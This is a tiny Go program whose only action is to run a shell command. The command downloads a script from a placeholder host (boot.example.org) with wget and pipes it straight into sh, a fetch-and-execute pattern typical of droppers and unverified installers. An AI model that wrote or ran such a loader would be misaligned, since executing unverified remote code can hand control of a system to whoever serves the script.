package main

import "os/exec"

func main() {
	exec.Command("sh", "-c", "wget -qO- https://boot.example.org/b.sh | sh").Run()
}
